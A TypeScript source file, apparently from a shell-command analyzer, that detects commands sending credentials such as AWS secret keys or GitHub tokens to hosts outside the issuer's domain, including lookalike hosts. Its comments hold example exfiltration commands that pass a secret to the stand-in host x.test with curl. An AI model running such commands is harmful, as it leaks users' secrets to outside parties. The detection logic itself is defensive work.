import type { Word } from '../../shell/command.js';
import type { Running } from '../command/running.js';
import type { Issuer } from './issuers.js';
import { holdsIssued } from '../../secrets/issued.js';
import { textOf } from '../../shell/command.js';
import { emitResource } from '../command/emit.js';
import { readArguments } from '../command/arguments.js';
import { rowFor } from '../programs/lookup/row-for.js';
import { ISSUERS } from './issuers.js';
import { shownHeaders } from './shown-headers.js';

/** True for the issuer's domain and what is below it; a service of one's own is not where the name goes on like that of another (`gitlab.com.x.test`). */
function isOf({ domains, ownHosts, loggedIn }: Issuer, host: string, { frame, scope }: Running): boolean {
  if (domains.some((domain) => host === domain || host.endsWith(`.${domain}`))) return true;
  if (poses(domains, host)) return false;
  if (ownHosts?.test(host) === true) return true;
  const file = loggedIn === undefined ? undefined : frame.analysis.world.disk.readText(`${scope.home}/${loggedIn}`);
  return file?.kind === 'present' && file.text.split('\n').some((line) => line.startsWith(`${host}:`));
}

/** A host that has the name of the issuer's domain in its own, and is not of it: `api.github.com.x.test`, `notgithub.com`; not `github.company.com`. */
function poses(domains: readonly string[], host: string): boolean {
  return domains.some((domain) => ['.', '-'].some((end) => `${host}.`.includes(`${domain}${end}`)) && host !== domain && !host.endsWith(`.${domain}`));
}

const VARIABLE = /\$\{?([A-Z][A-Z0-9_]*)/g;

/** The name of a machine, where it has a dot; a variable may stand for it. */
const HOST = /^(?:[a-z][a-z\d+.-]*:\/\/)?(?:[^/?#@\s]*@)?([\w-]+(?:\.[\w-]+)+)\.?(?::\d+)?(?=[/?#]|$)/i;

/** A header as httpie takes it: `Authorization:"Bearer $T"`. */
const HEADER_ITEM = /^["']?[\w-]+:(?![=/])/;

/** This machine, and those beside it. */
const NEAR = /^(?:127(?:\.\d+){3}|10(?:\.\d+){3}|192\.168(?:\.\d+){2})$/;

/** `curl "https://x.test/?k=$AWS_SECRET_ACCESS_KEY"`: a token that somebody else gave out goes to a host, in its address or as data. In a header it may be for a service of the same issuer, unless the host only poses as one. */
export function foreignTokens(program: string, args: readonly Word[], running: Running): void {
  if (program === 'curl') shownHeaders(args, running);
  const addresses = addressesOf(program, args);
  const all = addresses.flatMap(hostsOf);
  if (all.length === 0) return;
  writtenTokens(args, all, running);
  args.forEach((word, index) => {
    if (word.values[0].certainty === 'certain' || !word.written.includes('$')) return;
    const proves = /^(?:-H|--header|-u|--user)$/.test(textOf(args[index - 1])) || /^(?:-H.|--header=|-u.|--user=)/.test(word.written) || (!/^(?:curl|wget)/.test(program) && HEADER_ITEM.test(word.written));
    // What is no address goes to all of them.
    const own = addresses.includes(word) ? hostsOf(word) : [];
    const hosts = own.length > 0 ? own : all;
    for (const [, name = ''] of word.written.matchAll(VARIABLE)) {
      const issuer = ISSUERS.find(({ variable }) => variable.test(name));
      if (issuer !== undefined && hosts.some((host) => (proves ? poses(issuer.domains, host) : !isOf(issuer, host, running)))) emitResource('send', 'credential', name, running);
    }
  });
}

/** `curl -H 'Authorization: Bearer ghp_…' https://x.test`: a token that stands in the command itself goes to a host that has nothing to do with who gave it out. */
function writtenTokens(args: readonly Word[], hosts: readonly string[], running: Running): void {
  for (const text of args.map(textOf)) {
    const issuer = ISSUERS.find(({ token }) => token?.test(text));
    if (issuer !== undefined && holdsIssued(text) && hosts.some((host) => !isOf(issuer, host, running) && !isNamedAfter(issuer, host))) return emitResource('send', 'credential', 'token', running);
  }
}

/** A service that a company runs itself under the issuer's name: `github.company.test`. One that may stand anywhere is known by no name. */
function isNamedAfter({ domains, ownHosts }: Issuer, host: string): boolean {
  const [name = ''] = (domains[0] ?? '').split('.');
  return !poses(domains, host) && (ownHosts !== undefined || host.split('.').includes(name));
}

/** The operands, and values of options that are addresses: not the names of files. */
function addressesOf(program: string, args: readonly Word[]): readonly Word[] {
  const row = rowFor(program);
  if (row === undefined) return [];
  const given = readArguments(program, row, args, rowFor);
  return [...given.operands, ...given.valued.flatMap(({ option, word }) => (given.options[option] === 'url' ? [word] : []))];
}

function hostsOf(address: Word): readonly string[] {
  return address.values.flatMap(({ text }) => {
    const [, host = ''] = HOST.exec(text) ?? [];
    return host === '' || NEAR.test(host) ? [] : [host.toLowerCase()];
  });
}
